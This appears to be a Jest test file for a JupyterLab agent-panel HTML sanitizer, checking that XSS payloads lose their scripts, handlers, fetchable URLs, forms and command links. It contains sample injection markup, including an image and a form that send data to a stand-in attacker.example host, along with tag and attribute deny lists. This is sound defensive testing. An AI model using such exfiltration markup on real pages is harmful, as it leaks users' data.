/**
 * The agent-output sanitizer on every payload of fixtures/xss: nothing that
 * runs, loads from elsewhere, submits or navigates survives. (The browser
 * proof is ui-tests/tests/security-xss.spec.ts; this checks the HTML.)
 */
import * as fs from 'fs';
import * as path from 'path';

import { RenderMimeRegistry } from '@jupyterlab/rendermime';
import { Sanitizer } from '@jupyterlab/apputils';
import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import { Widget } from '@lumino/widgets';

import {
  AgentOutputSanitizer,
  agentOutputRendermime
} from '../../panel/common/agent-rendermime';
import { trans } from '../support/fake-transport';

interface IPayload {
  id: string;
  markup: string;
}

const PAYLOADS: IPayload[] = JSON.parse(
  fs.readFileSync(
    path.resolve(
      __dirname,
      '..',
      '..',
      '..',
      'fixtures',
      'xss',
      'payloads.json'
    ),
    'utf-8'
  )
).payloads;

const sanitizer = new AgentOutputSanitizer(trans);

function clean(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = sanitizer.sanitize(html);
  return host;
}

/** Why an attribute of the sanitized output is unsafe, or null. */
function problemOf(
  element: Element,
  name: string,
  value: string
): string | null {
  if (name.startsWith('on')) {
    return 'an event handler';
  }
  if (name.includes('commandlinker')) {
    return 'a command-linker attribute';
  }
  if (FETCHED.includes(name) && !value.startsWith('data:')) {
    return 'a URL the browser would fetch';
  }
  if (name === 'href') {
    if (element.localName !== 'a' && element.localName !== 'area') {
      return 'an href outside a link';
    }
    if (/^\s*(javascript|data|vbscript):/i.test(value)) {
      return 'a script or data link';
    }
  }
  if (name === 'style' && /url|\\|image/i.test(value)) {
    return 'a style that can fetch';
  }
  if (name === 'target' && value !== '_blank') {
    return 'a link that stays in the lab';
  }
  return null;
}

const FETCHED = [
  'src',
  'srcset',
  'poster',
  'action',
  'formaction',
  'data',
  'background',
  'xlink:href',
  'ping'
];

describe('AgentOutputSanitizer', () => {
  it.each(PAYLOADS.map(p => [p.id, p.markup]))(
    '%s: no script, handler, foreign URL to fetch, form or command link',
    (_, markup) => {
      const host = clean(markup);
      expect(
        host.querySelectorAll(
          'script, iframe, object, embed, link, meta, base, style, form, svg, math'
        )
      ).toHaveLength(0);
      const problems = Array.from(host.querySelectorAll('*')).flatMap(element =>
        Array.from(element.attributes).flatMap(({ name, value }) => {
          const problem = problemOf(element, name, value);
          return problem ? [`${element.localName} ${name}: ${problem}`] : [];
        })
      );
      expect(problems).toEqual([]);
    }
  );

  it('turns a remote image into a link that opens in a new tab', () => {
    const host = clean(
      '<p><img src="http://attacker.example/x.png?secret=1" alt="chart"></p>'
    );
    const link = host.querySelector('a')!;
    expect(host.querySelector('img')).toBeNull();
    expect(link.className).toBe('jp-AgentPanel-remoteImage');
    expect(link.textContent).toBe('[remote image not loaded: chart]');
    expect(link.getAttribute('href')).toBe(
      'http://attacker.example/x.png?secret=1'
    );
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('keeps inline data images and harmless styles', () => {
    const host = clean(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><span style="color: red">red</span>'
    );
    expect(host.querySelector('img')!.getAttribute('src')).toMatch(/^data:/);
    expect(host.querySelector('span')!.getAttribute('style')).toBe('color:red');
  });

  it('makes every link open in a new tab without opener or referrer', () => {
    const host = clean(
      '<a href="https://example.org" target="_top">a</a><a href="#x" target="_self">b</a>'
    );
    for (const link of host.querySelectorAll('a')) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
      expect(link.getAttribute('referrerpolicy')).toBe('no-referrer');
    }
  });

  it('gives markup with nothing to contain back as JupyterLab sanitized it, without parsing it again', () => {
    const templates = jest.spyOn(document, 'createElement');
    const plain =
      '<h2>Plan</h2><p>Some <strong>bold</strong>, <em>a &lt;tag&gt;</em> and <code>x &gt; 1</code></p><ul><li>one</li></ul>';
    const base = new Sanitizer();
    base.setAllowCommandLinker(false);
    try {
      expect(sanitizer.sanitize(plain)).toBe(base.sanitize(plain));
      expect(templates).not.toHaveBeenCalledWith('template');
      sanitizer.sanitize('<p><a href="#x">a link</a></p>');
      expect(templates).toHaveBeenCalledWith('template');
    } finally {
      templates.mockRestore();
    }
  });

  it('keeps the content of a form but nothing that submits', () => {
    const host = clean(
      '<form action="http://attacker.example/f"><p>kept</p><button type="submit">Send</button></form>'
    );
    expect(host.querySelector('form')).toBeNull();
    expect(host.textContent).toContain('kept');
  });
});

describe('agentOutputRendermime', () => {
  /** A renderer factory that records the sanitizer it was given. */
  function recordingFactory(
    mimeType: string,
    seen: IRenderMime.ISanitizer[]
  ): IRenderMime.IRendererFactory {
    return {
      safe: true,
      mimeTypes: [mimeType],
      createRenderer: options => {
        seen.push(options.sanitizer);
        const renderer = new Widget() as unknown as IRenderMime.IRenderer;
        renderer.renderModel = () => Promise.resolve();
        return renderer;
      }
    };
  }

  it('renders with a factory the lab registers after the panel started, through its own sanitizer', () => {
    const lab = new RenderMimeRegistry();
    const agent = agentOutputRendermime(lab, trans);
    const seen: IRenderMime.ISanitizer[] = [];
    // Mime extensions (the JSON viewer) may register after the panel.
    lab.addFactory(recordingFactory('application/json', seen), 10);

    const bundle = { 'application/json': { a: 1 }, 'text/plain': '{"a": 1}' };
    expect(agent.preferredMimeType(bundle, 'ensure')).toBe('application/json');
    agent.createRenderer('application/json').dispose();

    expect(seen).toHaveLength(1);
    expect(seen[0]).toBeInstanceOf(AgentOutputSanitizer);
    expect(seen[0]).toBe(agent.sanitizer);
    expect(lab.sanitizer).not.toBeInstanceOf(AgentOutputSanitizer);
  });

  it('names a MIME type no factory renders', () => {
    const agent = agentOutputRendermime(new RenderMimeRegistry(), trans);
    expect(() => agent.createRenderer('application/x-nothing')).toThrow(
      "No factory for mime type: 'application/x-nothing'"
    );
  });
});
